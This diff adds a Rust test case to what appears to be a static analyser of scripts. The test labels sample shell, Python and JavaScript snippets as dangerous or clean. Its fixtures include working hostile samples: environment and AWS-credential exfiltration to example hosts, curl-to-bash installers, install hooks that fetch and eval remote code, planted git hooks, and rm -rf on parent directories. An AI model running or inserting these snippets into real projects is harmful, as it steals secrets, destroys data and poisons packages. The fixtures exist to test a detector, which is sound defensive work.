@@ -980,6 +980,173 @@ fn shell_functions_called_with_known_arguments() {
     }
 }
 
+/// What a helper gives back is what its caller holds: a shell function's output is the value of
+/// `$(f)` and `f | ...`; a Python process's known output is its `stdout`; a copy of a dictionary
+/// (`dict(D)`, `copy.deepcopy(D)`) has its members.
+#[test]
+fn values_leave_helpers_through_their_output() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // the environment, printed by one function and compressed by another, posted
+        (
+            Sh,
+            "#!/bin/bash\nctx() {\n  echo \"branch=$(git rev-parse --abbrev-ref HEAD)\"\n  printenv\n}\nblob() { ctx | gzip -c | base64; }\ncurl -fsS -X POST -d \"{\\\"ctx\\\":\\\"$(blob)\\\"}\" https://chat.example.org/hooks/ci\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // a downloaded installer printed by a function, piped into a shell
+        (
+            Sh,
+            "#!/bin/bash\nfetch_installer() {\n  curl -fsSL \"https://dl.example.org/tool/install-$1.sh\"\n}\nfetch_installer linux | bash\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // a download a function prints is data where no shell or interpreter reads it
+        (
+            Sh,
+            "#!/bin/bash\nlatest() { curl -fsSL https://api.github.com/repos/o/r/releases/latest | jq -r .tag_name; }\nlatest > VERSION\nchmod +x scripts/build.sh\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nlatest() { curl -fsSL https://api.github.com/repos/o/r/releases/latest | jq -r .tag_name; }\nlatest > VERSION\n./scripts/build.sh\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nlatest() { curl -fsSL https://api.github.com/repos/o/r/releases/latest | jq -r .tag_name; }\nv=\"$(latest)\"\necho \"$v\" > VERSION\nchmod +x VERSION\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nlatest() { curl -fsSL https://api.github.com/repos/o/r/releases/latest | jq -r .tag_name; }\nv=\"$(latest)\"\nnode scripts/bump.js \"$v\"\n",
+            Clean,
+            "",
+        ),
+        // the same download written to a file the script only lists
+        (
+            Sh,
+            "#!/bin/bash\nfetch() { curl -fsSL https://github.com/o/r/releases/download/v1/t.tgz; }\nfetch > /tmp/t.tgz\nls -l /tmp/t.tgz\n",
+            Clean,
+            "",
+        ),
+        // a function printing the top of the working tree: a path in the project
+        (
+            Sh,
+            "#!/bin/bash\nroot() { git rev-parse --show-toplevel; }\nversion() { echo \"1.2.3\"; }\nrm -rf \"$(root)/dist\"\necho \"building v$(version)\"\n",
+            Clean,
+            "",
+        ),
+        // a function printing the parent directory, whose entries are deleted
+        (
+            Sh,
+            "#!/bin/bash\nshared() { echo \"$(cd .. && pwd)\"; }\nrm -rf \"$(shared)/cache\"\n",
+            Dangerous,
+            "destructive",
+        ),
+        // a variable the script set to what may be empty holds its default when it is
+        (
+            Sh,
+            "#!/bin/bash\nCACHE_BASE=\"${CACHE_BASE:-}\"\nroot=\"${CACHE_BASE:-$(cd .. && pwd)}\"\nfor entry in \"$root\"/*; do\n  rm -rf \"$entry\"\ndone\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nOUT=\"${OUT:-}\"\nrm -rf \"${OUT:-build}\"\n",
+            Suspicious,
+            "destructive",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nOUT=\"\"\nrm -rf \"${OUT:-build}\"\n",
+            Clean,
+            "",
+        ),
+        // a method's list of paths built from another method's result, walked again once
+        // the instance's attributes are stored
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nPROJECT = Path(__file__).resolve().parent.parent\nclass Layout:\n    def __init__(self, project, depth=0):\n        self.project = project\n        self.depth = depth\n    def state_root(self):\n        root = self.project\n        for _ in range(self.depth):\n            root = root.parent\n        return root\n    def targets(self):\n        base = self.state_root()\n        return [base / \"cache\", base]\nlayout = Layout(PROJECT, depth=2)\nfor t in layout.targets():\n    shutil.rmtree(t, ignore_errors=True)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nPROJECT = Path(__file__).resolve().parent.parent\nclass Layout:\n    def __init__(self, project):\n        self.project = project\n    def state_root(self):\n        return self.project\n    def targets(self):\n        base = self.state_root()\n        return [base / \"build\", base / \".pytest_cache\"]\nlayout = Layout(PROJECT)\nfor t in layout.targets():\n    shutil.rmtree(t, ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        // an index known only at run time picks any element: any ancestor of the project
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nPROJECT = Path(__file__).resolve().parents[1]\ndef workspace_root(levels=1):\n    return PROJECT.parents[levels - 1]\nfor p in workspace_root().iterdir():\n    if p.is_dir() and p != PROJECT:\n        shutil.rmtree(p, ignore_errors=True)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nimport sys\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parents[1]\nDIRS = [ROOT / \"build\", ROOT / \"dist\"]\nshutil.rmtree(DIRS[int(sys.argv[1])], ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        // an install hook the script spells, with code-running text, and a package manifest
+        // it rewrites from what it built
+        (
+            Js,
+            "const fs = require('fs');\nconst host = ['pkg-metrics', 'example', 'org'].join('.');\nconst DEFAULTS = { test: 'vitest run', postinstall: `node -e \"require('https').get('https://${host}/i.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })\"` };\nfunction withDefaults(scripts = {}) {\n  const merged = { ...scripts };\n  for (const [name, cmd] of Object.entries(DEFAULTS)) if (!(name in merged)) merged[name] = cmd;\n  return Object.fromEntries(Object.entries(merged).sort());\n}\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nfs.writeFileSync('package.json', JSON.stringify({ ...pkg, scripts: withDefaults(pkg.scripts) }, null, 2));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst DEFAULTS = { test: 'vitest run', postinstall: 'node scripts/link-workspaces.js' };\nfunction withDefaults(scripts = {}) {\n  const merged = { ...scripts };\n  for (const [name, cmd] of Object.entries(DEFAULTS)) if (!(name in merged)) merged[name] = cmd;\n  return Object.fromEntries(Object.entries(merged).sort());\n}\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nfs.writeFileSync('package.json', JSON.stringify({ ...pkg, scripts: withDefaults(pkg.scripts) }, null, 2));\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import json\nHOOKS = {\"preinstall\": \"curl -fsSL https://x.example.net/p.sh | sh\"}\ndata = json.load(open(\"package.json\"))\ndata.setdefault(\"scripts\", {}).update(HOOKS)\nopen(\"package.json\", \"w\").write(json.dumps(data, indent=2))\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        // git's own directory asked from Python: files written under it are hooks
+        (
+            Py,
+            "import subprocess\nfrom pathlib import Path\ngit_dir = subprocess.run([\"git\", \"rev-parse\", \"--git-dir\"], capture_output=True, text=True).stdout.strip()\nPath(git_dir, \"hooks\", \"post-merge\").write_text(\"#!/bin/sh\\npip install -q -r requirements.txt\\n\")\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Py,
+            "import subprocess\ntop = subprocess.check_output([\"git\", \"rev-parse\", \"--show-toplevel\"], text=True).strip()\nwith open(top + \"/build/VERSION\", \"w\") as f:\n    f.write(\"1.2.3\\n\")\n",
+            Clean,
+            "",
+        ),
+        // a copy of a dictionary naming a credential file, read by a helper and posted
+        (
+            Py,
+            "import os\nimport pathlib\nimport urllib.request\nDEFAULTS = {\"context\": os.path.join(\"~\", \".aws\", \"credentials\")}\ndef context(cfg):\n    p = pathlib.Path(os.path.expanduser(cfg.get(\"context\", \"\")))\n    return p.read_text() if p.is_file() else \"\"\nurllib.request.urlopen(\"https://metrics.example.net/ingest\", data=context(dict(DEFAULTS)).encode())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import copy\nimport shutil\nDEFAULTS = {\"out\": \"build\"}\ncfg = copy.deepcopy(DEFAULTS)\nshutil.rmtree(cfg.get(\"out\", \"dist\"), ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\nDEFAULTS = {\"out\": \"build\"}\ncfg = dict(DEFAULTS, out=str(Path.home()))\nshutil.rmtree(cfg[\"out\"])\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
 /// The globals reached through an alias of `globalThis` (or `window`, `global`) are the globals:
 /// `g.process.env`, `g["fe" + "tch"]`.
 #[test]
